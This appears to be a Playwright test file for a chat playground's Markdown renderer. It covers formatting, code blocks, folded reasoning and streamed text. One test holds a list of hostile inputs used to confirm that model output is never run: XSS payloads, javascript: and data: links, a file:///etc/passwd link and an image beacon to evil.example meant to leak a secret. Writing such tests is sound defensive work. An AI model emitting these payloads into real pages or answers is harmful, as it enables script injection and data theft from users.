"""Answers in the playground: Markdown is shown as what it means, and nothing a model says is ever run."""

from __future__ import annotations

from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from browser_fixtures import Visit
from live_server import LiveServer
from page_checks import is_wider_than_the_screen, nameless, too_faint
from playground_page import answers, fixed_answer, say, until, wait_for_answer, wait_until_over

if TYPE_CHECKING:
    from playwright.sync_api import Page

DOCS = Path(__file__).parents[2] / "docs"

SAMPLE = """\
# Paris

On the *Seine*, **big**, ~~small~~, with `20` parts &amp; [a page](https://example.org/paris?a=1&b=2 "title").
Second line.

1. Louvre
   - Mona Lisa
2. Tower

- [x] seen

> Paris is
> a feast.

| Place | Since |
|:--|--:|
| Louvre | **1793** |

```python
def hello(name: str) -> None:
    print(f"hello {name}")  # greets
```
"""


def answered(page: Page, text: str) -> None:
    """In single characters, as a slow model would."""
    fixed_answer(page, *text)
    say(page, "Go on.")
    wait_for_answer(page)


def test_markdown_is_shown_as_what_it_means(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground)
    answered(page, SAMPLE)
    answer = page.locator(".turns .assistant .prose")
    assert answer.get_by_role("heading", name="Paris").count() == 1
    for tag, text in (("em", "Seine"), ("strong", "big"), ("del", "small"), ("p code", "20")):
        assert answer.locator(tag).first.inner_text() == text
    first = answer.locator("p").first.inner_text()
    assert first == "On the Seine, big, small, with 20 parts & a page.\nSecond line."
    assert answer.locator("ol > li").count() == 2
    assert answer.locator("ol > li ul > li").all_inner_texts() == ["Mona Lisa"]
    assert answer.get_by_role("img", name="done").count() == 1
    assert answer.locator("blockquote").inner_text() == "Paris is\na feast."
    table = answer.get_by_role("table", name="Table: Place, Since")
    assert table.get_by_role("columnheader").all_inner_texts() == ["Place", "Since"]
    assert table.get_by_role("cell").all_inner_texts() == ["Louvre", "1793"]
    assert table.locator("td strong").count() == 1
    link = answer.get_by_role("link")
    assert link.get_attribute("href") == "https://example.org/paris?a=1&b=2"
    assert link.get_attribute("target") == "_blank"
    assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())


@pytest.mark.full
def test_code_has_its_language_its_colours_and_a_button_that_copies_it(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground, permissions=["clipboard-read", "clipboard-write"])
    code = 'def hello(name: str) -> None:\n    print(f"hello {name}")  # greets & <b>'
    answered(page, f"Look:\n\n```Python title=x\n{code}\n```\n\n```nonsense\n1 < 2\n```\n\n    indented\n")
    block = page.locator(".code").first
    assert block.locator("figcaption span").inner_text() == "python"
    assert block.locator(".hl-keyword").first.inner_text() == "def"
    assert block.locator(".hl-comment").inner_text() == "# greets & <b>"
    assert block.locator("pre").get_attribute("aria-label") == "Code, python"
    block.get_by_role("button", name="Copy").click()
    block.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == code
    assert page.locator(".code pre").all_inner_texts() == [code, "1 < 2", "indented"]
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        assert too_faint(page) == [], scheme
    assert nameless(page) == []


@pytest.mark.full
def test_long_lines_of_code_and_wide_tables_scroll_by_themselves(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground, viewport={"width": 390, "height": 700}, is_mobile=True, has_touch=True)
    wide = "| " + " | ".join(f"column {index}" for index in range(30)) + " |"
    rule = "|" + "--|" * 30
    answered(page, f"{'word' * 200}\n\n```\n{'x = 1; ' * 100}\n```\n\n{wide}\n{rule}\n{wide}\n")
    assert not is_wider_than_the_screen(page)
    for box in (page.locator(".code pre"), page.locator(".table")):
        assert box.evaluate("node => node.scrollWidth > node.clientWidth + 100")
        # The keyboard moves it, too, and shows what it would move.
        box.press("ArrowRight")
        until(partial(box.evaluate, "node => node.scrollLeft > 0"), "it does not scroll")
        assert box.evaluate("node => getComputedStyle(node).outlineStyle") != "none"


@pytest.mark.full
def test_thoughts_are_folded_away(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground, permissions=["clipboard-read", "clipboard-write"])
    answered(page, "<think>\nThe user **greets**.\n</think>\n\nGood day!")
    answer = page.locator(".turns .assistant")
    assert answer.locator(".prose > .markdown").inner_text() == "Good day!"
    assert not answer.get_by_text("The user greets.").is_visible()
    answer.locator("summary").press("Enter")
    assert answer.get_by_text("The user greets.").is_visible()
    answer.get_by_role("button", name="Copy", exact=True).click()
    assert page.evaluate("navigator.clipboard.readText()") == "Good day!"


PARTS: dict[str, tuple[str | None, str, bool]] = {
    "<think>a</think>b": ("a", "b", False),
    "\n<think>a": ("a", "", True),
    "<thi": (None, "", False),
    "<thing": (None, "<thing", False),
    "a\n</think>\n\nb": ("a\n", "b", False),
    "the tag `</think>` ends it": (None, "the tag `</think>` ends it", False),
    "b <think>a</think>": (None, "b <think>a</think>", False),
    "": (None, "", False),
}


@pytest.mark.full
def test_thought_and_answer_are_told_apart(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground)
    parts = page.evaluate(
        """async (texts) => {
          const { partsOf } = await import("/ui/answer.js");
          return texts.map(partsOf).map(({ thought, said, thinking }) => [thought, said, thinking]);
        }""",
        list(PARTS),
    )
    assert {text: tuple(each) for text, each in zip(PARTS, parts, strict=True)} == PARTS


# --- what comes bit by bit ------------------------------------------------------------------------------------------


@pytest.mark.full
def test_rendered_nodes_are_left_alone_while_more_text_arrives(playground: LiveServer, visit: Visit) -> None:
    """Each token rendered the whole text again: long answers took ever longer, and nothing in them stayed marked."""
    page = visit(playground)
    kept = page.evaluate("""async () => {
      const { Markdown } = await import("/ui/markdown.js");
      const shown = new Markdown();
      const text = "One.\\n\\n- a\\n- b\\n\\n```python\\na = 1\\n\\n```\\nand three.";
      const [firsts, items, codes] = [new Set(), new Set(), new Set()];
      for (let end = 1; end <= text.length; end++) {
        shown.update(text.slice(0, end));
        if (end >= 4) firsts.add(shown.node.firstChild);
        if (end >= 13) items.add(shown.node.querySelector("li"));
        if (end >= 28) codes.add(shown.node.querySelector("pre"));
      }
      shown.finish(text);
      firsts.add(shown.node.firstChild);
      codes.add(shown.node.querySelector("pre"));
      return [firsts.size, items.size, codes.size, [...shown.node.children].map((node) => node.localName)];
    }""")
    assert kept == [1, 1, 1, ["p", "ul", "figure", "p"]]


@pytest.mark.full
def test_text_that_came_bit_by_bit_looks_like_one_that_came_at_once(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground)
    lists = "1. a\n\n2. b\n\n   c\n- x\n\n- y\n\n"
    others = "Title\n===\n| a |\n|--|\n| b |\n\nEnd\n---\n> q\nlazy\n\n\tcode\r\n\r\n* * *\n[l]: http://a.b\n"
    texts = [
        SAMPLE,
        lists + others,
        *(path.read_text(encoding="utf-8")[:4000] for path in sorted(DOCS.glob("*.md"))[:6]),
    ]
    unlike = page.evaluate(
        """async (texts) => {
          const { Markdown } = await import("/ui/markdown.js");
          const unlike = [];
          for (const text of texts) {
            const [grown, whole] = [new Markdown(), new Markdown()];
            for (let end = 0; end <= text.length; end += 1 + (end % 7)) grown.update(text.slice(0, end));
            grown.update(text);
            whole.update(text);
            if (!grown.node.isEqualNode(whole.node)) unlike.push([text.slice(0, 40), "while it came"]);
            grown.finish(text);
            whole.finish(text);
            if (!grown.node.isEqualNode(whole.node)) unlike.push([text.slice(0, 40), "at the end"]);
          }
          return unlike;
        }""",
        texts,
    )
    assert unlike == []


@pytest.mark.full
def test_fence_that_is_not_closed_yet_is_code(playground: LiveServer, visit: Visit) -> None:
    page = visit(playground)
    for mark in ("```", "~~~", "```html"):
        shown = page.evaluate(
            """async (text) => {
              const { Markdown } = await import("/ui/markdown.js");
              const shown = new Markdown();
              shown.update(text);
              return [...shown.node.querySelectorAll("*")].map((node) => [node.localName, node.textContent]);
            }""",
            f"Look:\n\n{mark}\n<script>alert(1)</script>\n\n# no heading\n",
        )
        assert ["code", "<script>alert(1)</script>\n\n# no heading"] in shown
        assert not {"script", "h4"} & {tag for tag, _ in shown}


# --- hostile answers ------------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>document.title = 'hacked'</script>",
    "<img src=x onerror=\"document.title = 'hacked'\">",
    "text <b onclick=alert(1)>bold</b> <a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<svg><script>document.title = 'hacked'</script></svg>",
    "<style>body { display: none }</style>",
    "<!-- a --> <![CDATA[ x ]]> <?php ?>",
    "[x](javascript:document.title='hacked')",
    "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1)) [z](&#106;avascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html,<script>1</script>) [z](file:///etc/passwd)",
    "[x](/admin/stats) [y](//evil.example) [z](ui/main.js) [s](#work)",
    "<javascript:alert(1)> ![x](javascript:alert(1)) ![y](data:image/svg+xml,x)",
    "![spy](https://evil.example/spy.png?secret)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1)") [y](https://a.example/"onclick=alert)',
    "```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| <script>1</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "<think><script>document.title = 'hacked'</script></think><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#0; &#9999999;",
]


def test_nothing_that_a_model_says_is_run_or_fetched(playground: LiveServer, visit: Visit) -> None:
    """The browser's console must stay silent, too, and no request may go anywhere else: `visit` watches both."""
    page = visit(playground)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog says {dialog.message}"))
    answered(page, "\n\n".join(HOSTILE))
    answer = page.locator(".turns .assistant .prose")
    blocks = "details summary div h4 h5 h6 p ul ol li blockquote hr pre figure figcaption table thead tbody tr th td"
    allowed = f"{blocks} span br strong em del code a button"
    tags = set(answer.evaluate("node => [...node.querySelectorAll('*')].map((each) => each.localName)"))
    assert tags <= set(allowed.split())
    names = set(answer.evaluate("node => [...node.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())"))
    assert names <= {"class", "href", "target", "rel", "type", "tabindex", "role", "aria-label", "start"}
    addresses = answer.evaluate("node => [...node.querySelectorAll('a')].map((each) => each.href)")
    assert addresses
    assert all(address.startswith("https://") for address in addresses), addresses
    assert page.title() == "Ostro playground"
    shown = answers(page)[0]
    for text in ("<img src=x onerror=\"document.title = 'hacked'\">", "<iframe srcdoc=", "<style>body", "<svg>"):
        assert text in shown, "it is shown as it was written"
    say(page, "<i>me</i>")
    wait_until_over(page, "chat")
    assert page.locator(".turns i").count() == 0


DEGENERATE = {
    "quotes": "> " * 5000 + "deep",
    "lists": "- " * 3000 + "deep",
    "emphasis": "*a **b " * 2000,
    "brackets": "[" * 5000 + "a",
    "table": "| a | b |\n|--|--|\n" + "| 1 | 2 |\n" * 3000,
    "word": "x" * 100_000,
    "code": "```js\n" + "var a = 1;\n" * 8000,
    "lines": "\n" * 10_000 + "end",
}


@pytest.mark.full
def test_degenerate_answers_are_shown_whole(playground: LiveServer, visit: Visit) -> None:
    """Models that have lost their way say such things; one of them overflowed the parser's stack."""
    page = visit(playground)
    for name, text in DEGENERATE.items():
        height, shown = page.evaluate(
            """async (text) => {
              const { Markdown } = await import("/ui/markdown.js");
              const shown = new Markdown();
              for (const part of [0.2, 0.5, 1]) shown.update(text.slice(0, text.length * part));
              shown.finish(text);
              for (const caption of shown.node.querySelectorAll("figcaption")) caption.remove();
              document.querySelector("#chat-turns").replaceChildren(shown.node);
              return [shown.node.offsetHeight, shown.node.textContent.match(/[a-z0-9]/g).length];
            }""",
            text,
        )
        assert height > 0, name
        assert shown == sum(character.isalnum() for character in text.removeprefix("```js")), name
